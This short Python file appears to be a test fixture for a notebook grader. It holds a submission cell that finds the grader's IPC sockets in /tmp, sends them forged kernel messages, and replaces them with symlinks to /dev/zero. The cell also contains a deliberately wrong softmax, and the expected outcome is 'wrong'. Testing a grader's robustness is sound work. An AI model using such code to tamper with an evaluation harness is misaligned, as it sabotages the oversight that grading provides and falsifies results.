"""Sends forged messages through the grader's own sockets, and removes them."""

CELL = """
import glob
import os

import zmq

context = zmq.Context()
for path in glob.glob("/tmp/**/s-*", recursive=True):
    socket = context.socket(zmq.DEALER)
    socket.linger = 100
    socket.connect(f"ipc://{path}")
    socket.send_multipart([b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b"{}"])
    try:
        os.unlink(path)
        os.symlink("/dev/zero", path)
    except OSError:
        pass


def softmax(logits):
    return np.zeros(logits.shape)
"""
STATES = ("wrong",)
